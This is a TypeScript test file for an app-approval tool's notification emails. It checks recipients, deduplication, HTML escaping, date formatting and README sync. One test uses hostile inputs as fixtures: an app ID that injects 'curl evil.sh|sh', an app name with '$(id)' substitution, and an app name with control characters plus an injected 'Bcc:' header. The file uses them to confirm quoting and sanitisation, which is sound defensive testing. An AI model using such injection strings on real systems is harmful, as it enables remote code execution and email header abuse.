// The emails without a server (SPEC §6): each kind renders its facts in text and HTML (escaped, UTC, links from
// the public URL, the org's name), a row this version cannot render is an EngineError, the compose functions
// pick the right recipients and queue nothing for repeated events, and the README lists every email.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { isEngineError } from '../engine/errors.ts';
import {
  composeGoLive,
  composeGuestJoined,
  composeRequestCreated,
  composeRequestDenied,
  composeTokenExpiry,
  composeTokenRevoked,
  composeUsageExport,
  requestRecipients,
  tokenOwnerEmail,
} from '../engine/notify/compose.ts';
import { EMAILS, emailsMarkdownTable, renderNotification } from '../engine/notify/templates.ts';
import type { NewNotification, Notification } from '../engine/notify/types.ts';
import type { ApprovalRequest, TokenRecord } from '../engine/store/store.ts';
import { parseRfc3339 } from '../engine/time.ts';
import type { OrgData } from '../engine/types.ts';

const at = (t: string) => parseRfc3339(t) as number;
const NOW = at('2026-06-01T12:00:00Z');
const DAY = 86_400;

const ORG: OrgData = {
  name: 'Globex <Corp> & Sons',
  apps: {
    mode: 'require_approval',
    block_scope: 'this_org',
    blocked: {},
    approved: {},
    notify: ['super_admins', 'IT-Approvals@globex.example', 'hank@globex.example'],
  },
  automation: { external_webhook_rules: 'allow' },
  tokens: { personal_access_tokens: 'enabled', expiration: '90d', expiration_days: 90 },
  guests: { api_via_apps: 'allow', api_via_personal_access_tokens: 'deny' },
  service_accounts: { 'deploy-bot': { name: 'Deploy', owner: 'ops@globex.example', enabled: true } },
  admins: { super_admins: { 'hank@globex.example': true, 'lead@globex.example': true }, admins: {} },
};

const CTX = { publicUrl: 'https://warden.example.com/', orgName: () => 'Globex <Corp> & Sons' };

const request = (over: Partial<ApprovalRequest> = {}): ApprovalRequest => ({
  id: 'req-1',
  org: 'globex.example',
  app_id: 'A0B1C2',
  app_name: 'Calendar <Bot>',
  requester_id: 'U7',
  requester_email: 'ann@globex.example',
  note: 'for the "team" calendar',
  status: 'pending',
  asks: 1,
  created_at: NOW,
  updated_at: NOW,
  decided_at: null,
  decided_by: null,
  reason: null,
  ...over,
});

const token = (over: Partial<TokenRecord> = {}): TokenRecord => ({
  org: 'globex.example',
  id: 'tok_1',
  kind: 'personal_access',
  owner: 'U7',
  owner_email: 'ann@globex.example',
  service_account: null,
  created_at: at('2026-03-01T00:00:00Z'),
  first_seen: at('2026-03-01T00:00:00Z'),
  registered_by: 'token.create',
  last_used_at: at('2026-05-30T08:15:00Z'),
  expires_at: null,
  revoked: null,
  ...over,
});

let seq = 0;
function row(n: NewNotification): Notification {
  seq += 1;
  return {
    ...n,
    id: `n${seq}`,
    status: 'pending',
    attempts: 0,
    created_at: NOW,
    next_attempt_at: NOW,
    sent_at: null,
    last_error: null,
  };
}

test('the approval request goes to the expanded recipients, de-duplicated, with the requester and a link', () => {
  assert.equal(requestRecipients(ORG), [
    'hank@globex.example',
    'lead@globex.example',
    'it-approvals@globex.example',
  ]);
  const rows = composeRequestCreated({ request: request(), merged: false }, ORG);
  assert.equal(
    rows.map((r) => [r.kind, r.to, r.dedupe_key]),
    [
      [
        'approval_request',
        ['hank@globex.example', 'lead@globex.example', 'it-approvals@globex.example'],
        'approval_request:globex.example:req-1',
      ],
      ['request_confirmation', ['ann@globex.example'], 'request_confirmation:globex.example:req-1'],
    ],
  );
  const m = renderNotification(row(rows[0] as NewNotification), CTX);
  assert.is(m.subject, '[Globex <Corp> & Sons] ann@globex.example asks to use Calendar <Bot> (A0B1C2)');
  assert.match(m.text, 'Requested by: ann@globex.example (user U7)');
  assert.match(m.text, 'Asked at: 2026-06-01 12:00 UTC');
  assert.match(m.text, 'Note: for the "team" calendar');
  assert.match(m.text, 'https://warden.example.com/admin/v1/orgs/globex.example/approval-requests/req-1');
  // Every value escaped in HTML: the org name and the app name carry markup characters.
  assert.match(m.html, 'Globex &lt;Corp&gt; &amp; Sons');
  assert.match(m.html, 'Calendar &lt;Bot&gt; (A0B1C2)');
  assert.match(m.html, 'for the &quot;team&quot; calendar');
  assert.not.match(m.html, '<Bot>');
  assert.match(
    m.html,
    'href="https://warden.example.com/admin/v1/orgs/globex.example/approval-requests/req-1"',
  );

  // The commands it suggests run as written: the app's name is one shell word, whatever the requester sent.
  assert.match(
    m.text,
    "appwarden apps approve A0B1C2 --name 'Calendar <Bot>' --org globex.example --policy .",
  );
  const hostile = composeRequestCreated(
    { request: request({ app_id: 'x;curl evil.sh|sh;#', app_name: "it's $(id)" }), merged: false },
    ORG,
  );
  const h = renderNotification(row(hostile[0] as NewNotification), CTX);
  const breaking = composeRequestCreated(
    { request: request({ app_name: 'Evil\u0085NEL\u2028LS\u009bC1\r\nBcc: x@evil.example' }), merged: false },
    ORG,
  );
  const subject = renderNotification(row(breaking[0] as NewNotification), CTX).subject;
  assert.not.match(
    subject,
    // biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point
    /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/,
    'no control or line separator in a subject',
  );
  assert.match(h.text, "apps approve 'x;curl evil.sh|sh;#' --name 'it'\\''s $(id)' --org");

  const c = renderNotification(row(rows[1] as NewNotification), CTX);
  assert.is(c.subject, '[Globex <Corp> & Sons] Your request for Calendar <Bot> (A0B1C2) was sent');
  assert.match(c.text, "sent to the org's admins (3 recipients)");
});

test('a merged request queues nothing; an org without recipients still confirms to the requester', () => {
  assert.equal(composeRequestCreated({ request: request({ asks: 2 }), merged: true }, ORG), []);
  const none = {
    ...ORG,
    apps: { ...ORG.apps, notify: ['super_admins'] },
    admins: { super_admins: {}, admins: {} },
  };
  const rows = composeRequestCreated({ request: request(), merged: false }, none);
  assert.equal(
    rows.map((r) => r.kind),
    ['request_confirmation'],
  );
  assert.match(renderNotification(row(rows[0] as NewNotification), CTX).text, 'ask its admins directly');
});

test('a denial tells the requester the reason once; a repeated deny queues nothing', () => {
  const denied = request({
    status: 'denied',
    decided_at: NOW + 60,
    decided_by: 'hank@globex.example',
    reason: 'use the <shared> calendar',
  });
  assert.equal(composeRequestDenied({ request: denied, changed: false }), []);
  assert.equal(composeRequestDenied({ request: null, changed: false }), []);
  const rows = composeRequestDenied({ request: denied, changed: true });
  assert.equal(
    rows.map((r) => [r.kind, r.to, r.dedupe_key]),
    [['request_decision', ['ann@globex.example'], 'request_decision:globex.example:req-1']],
  );
  const m = renderNotification(row(rows[0] as NewNotification), CTX);
  assert.is(m.subject, '[Globex <Corp> & Sons] Your request for Calendar <Bot> (A0B1C2) was denied');
  assert.match(m.text, 'Reason: use the <shared> calendar');
  assert.match(m.text, 'Denied by: hank@globex.example');
  assert.match(m.text, 'Denied at: 2026-06-01 12:01 UTC');
  assert.match(m.html, 'use the &lt;shared&gt; calendar');
});

test('a go-live approves requests and sends one PAT email per owner listing their tokens', () => {
  const approved = request({ status: 'approved', decided_at: NOW, decided_by: 'policy' });
  const swept = [
    token({ id: 'tok_1', revoked: { at: NOW, by: 'policy', reason: 'personal access tokens turned off' } }),
    token({ id: 'tok_2', last_used_at: null, revoked: { at: NOW, by: 'policy', reason: null } }),
    token({
      id: 'tok_3',
      owner: 'U8',
      owner_email: 'bob@globex.example',
      revoked: { at: NOW, by: 'policy', reason: null },
    }),
    token({ id: 'tok_4', owner: 'U9', owner_email: null, revoked: { at: NOW, by: 'policy', reason: null } }),
  ];
  const rows = composeGoLive(
    {
      approved: [approved],
      swept: new Map([['globex.example', ['tok_1', 'tok_2', 'tok_3', 'tok_4']]]),
      sweptTokens: new Map([['globex.example', swept]]),
    },
    { revision: 'abc123def4567890', at: NOW },
  );
  assert.equal(
    rows.map((r) => [r.kind, r.to, r.dedupe_key]),
    [
      ['request_decision', ['ann@globex.example'], 'request_decision:globex.example:req-1'],
      ['pats_revoked', ['ann@globex.example'], `pats_revoked:globex.example:${NOW}:ann@globex.example`],
      ['pats_revoked', ['bob@globex.example'], `pats_revoked:globex.example:${NOW}:bob@globex.example`],
    ],
  );
  const a = renderNotification(row(rows[0] as NewNotification), CTX);
  assert.is(a.subject, '[Globex <Corp> & Sons] Calendar <Bot> (A0B1C2) was approved');
  assert.match(a.text, 'Policy revision: abc123def4567890');
  const p = renderNotification(row(rows[1] as NewNotification), CTX);
  assert.is(
    p.subject,
    '[Globex <Corp> & Sons] Personal access tokens are turned off: 2 of your tokens were revoked',
  );
  assert.match(p.text, '  - tok_1 (created 2026-03-01 00:00 UTC, last used 2026-05-30 08:15 UTC)');
  assert.match(p.text, '  - tok_2 (created 2026-03-01 00:00 UTC, never used)');
  assert.not.match(p.text, 'tok_3');
});

test('a revoked token mails its owner once; a service account falls back to its owner in the policy', () => {
  const revoked = { at: NOW, by: 'hank@globex.example', reason: 'leaked in a <log>' };
  assert.equal(composeTokenRevoked({ token: token({ revoked }), changed: false }, ORG), []);
  assert.equal(composeTokenRevoked({ token: token({ owner_email: null, revoked }), changed: true }, ORG), []);
  const sa = token({
    id: 'tok_sa',
    kind: 'service_account',
    owner: null,
    owner_email: null,
    service_account: 'deploy-bot',
    revoked,
  });
  assert.is(tokenOwnerEmail(sa, ORG), 'ops@globex.example');
  assert.is(tokenOwnerEmail(sa, undefined), null);
  const rows = composeTokenRevoked({ token: sa, changed: true }, ORG);
  assert.equal(
    rows.map((r) => [r.kind, r.to, r.dedupe_key]),
    [['token_revoked', ['ops@globex.example'], 'token_revoked:globex.example:tok_sa']],
  );
  const m = renderNotification(row(rows[0] as NewNotification), CTX);
  assert.is(m.subject, '[Globex <Corp> & Sons] Your token tok_sa was revoked');
  assert.match(m.text, 'Service account: deploy-bot');
  assert.match(m.text, 'Revoked by: hank@globex.example');
  assert.match(m.text, 'Reason: leaked in a <log>');
  assert.match(m.html, 'leaked in a &lt;log&gt;');
});

test('expiry: a warning within 7 days, a notice once expired (30 days at most), keyed by the expiry', () => {
  const t = token();
  assert.is(composeTokenExpiry(t, NOW + 8 * DAY, NOW, ORG), null);
  const warn = composeTokenExpiry(t, NOW + 7 * DAY, NOW, ORG);
  assert.is(warn?.kind, 'token_expiring');
  assert.is(warn?.dedupe_key, `token_expiring:globex.example:tok_1:${NOW + 7 * DAY}`);
  const m = renderNotification(row(warn as NewNotification), CTX);
  assert.is(m.subject, '[Globex <Corp> & Sons] Your token tok_1 expires on 2026-06-08');
  assert.match(m.text, 'Expires: 2026-06-08 12:00 UTC');
  const gone = composeTokenExpiry(t, NOW, NOW, ORG);
  assert.is(gone?.kind, 'token_expired');
  assert.is(gone?.dedupe_key, `token_expired:globex.example:tok_1:${NOW}`);
  assert.is(
    renderNotification(row(gone as NewNotification), CTX).subject,
    '[Globex <Corp> & Sons] Your token tok_1 expired on 2026-06-01',
  );
  assert.is(composeTokenExpiry(t, NOW - 31 * DAY, NOW, ORG), null);
  assert.is(
    composeTokenExpiry(token({ revoked: { at: NOW, by: 'x', reason: null } }), NOW + DAY, NOW, ORG),
    null,
  );
  assert.is(composeTokenExpiry(token({ owner_email: null }), NOW + DAY, NOW, ORG), null);
});

test('a guest hears which apps stopped and whom to ask; members and address-less joins queue nothing', () => {
  const join = {
    org: 'globex.example',
    user_id: 'G1',
    role: 'guest' as const,
    joined_at: NOW,
    recorded_at: NOW,
  };
  const names = (id: string) => (id === 'app-a' ? 'Alpha' : null);
  assert.equal(
    composeGuestJoined({ ...join, role: 'member' }, 'g@partner.example', ['app-a'], ORG, names),
    [],
  );
  assert.equal(composeGuestJoined(join, null, ['app-a'], ORG, names), []);
  assert.equal(composeGuestJoined(join, 'g@partner.example', [], ORG, names), []);
  const rows = composeGuestJoined(join, 'G@Partner.example', ['app-a', 'app-b'], ORG, names);
  assert.equal(
    rows.map((r) => [r.kind, r.to, r.dedupe_key]),
    [['guest_apps_blocked', ['g@partner.example'], `guest_apps_blocked:globex.example:G1:${NOW}`]],
  );
  const m = renderNotification(row(rows[0] as NewNotification), CTX);
  assert.is(m.subject, '[Globex <Corp> & Sons] 2 of your apps need approval in Globex <Corp> & Sons');
  assert.match(m.text, '  - Alpha (app-a)\n  - app-b');
  assert.match(m.text, 'connect the app again');
  assert.match(m.text, 'hank@globex.example, lead@globex.example, it-approvals@globex.example');
});

test('the usage export carries the CSV as an attachment and a link to a fresh copy', () => {
  const csv = '\ufeffemail,user_id\r\nann@globex.example,U7\r\n';
  const n = composeUsageExport({
    org: 'globex.example',
    exportId: 'e1',
    requestedBy: 'Hank@globex.example',
    at: NOW,
    csv,
    rows: 1,
    filename: 'globex.example-app-usage-2026-06-01.csv',
  });
  assert.equal([n.to, n.dedupe_key], [['hank@globex.example'], 'usage_export:globex.example:e1']);
  assert.equal(n.attachments, [
    {
      filename: 'globex.example-app-usage-2026-06-01.csv',
      content_type: 'text/csv; charset=utf-8',
      content: csv,
    },
  ]);
  const m = renderNotification(row(n), CTX);
  assert.is(m.subject, '[Globex <Corp> & Sons] App usage export (2026-06-01)');
  assert.match(m.text, 'Rows: 1');
  assert.match(m.text, 'https://warden.example.com/admin/v1/orgs/globex.example/apps/usage.csv');
});

test('a row this version cannot render is an EngineError naming the field', () => {
  const bad = (kind: string, data: Record<string, unknown>) => () =>
    renderNotification(
      row({ kind: kind as NewNotification['kind'], org: 'o', to: ['a@b.example'], dedupe_key: 'k', data }),
      CTX,
    );
  for (const [fn, path] of [
    [bad('carrier_pigeon', {}), 'kind'],
    [
      bad('token_revoked', {
        token_id: 'tok_1',
        kind: 'personal_access',
        service_account: null,
        created_at: null,
      }),
      'data.revoked_at',
    ],
    [bad('pats_revoked', { revoked_at: NOW, revision: 'r', tokens: [] }), 'data.tokens'],
    [
      bad('guest_apps_blocked', { user_id: 'G', joined_at: NOW, apps: [{ id: 5 }], contacts: [] }),
      'data.apps[0].id',
    ],
  ] as const) {
    try {
      fn();
      assert.unreachable('rendered');
    } catch (err) {
      assert.ok(isEngineError(err, 'invalid_input'), String(err));
      assert.ok(
        err.issues.some((i) => i.path === path),
        err.issues.map((i) => i.path).join(' '),
      );
    }
  }
});

test('every kind is listed once, and the README "Emails" section is the generated table', () => {
  const kinds = EMAILS.map((e) => e.kind);
  assert.equal(kinds, [...new Set(kinds)]);
  assert.is(kinds.length, 9);
  const readme = readFileSync(join(import.meta.dirname, '..', 'README.md'), 'utf8');
  const table = emailsMarkdownTable();
  assert.ok(
    readme.includes(table),
    `README.md must contain the table of engine/notify/templates.ts EMAILS under "## Emails"; paste:\n${table}`,
  );
});

test.run();
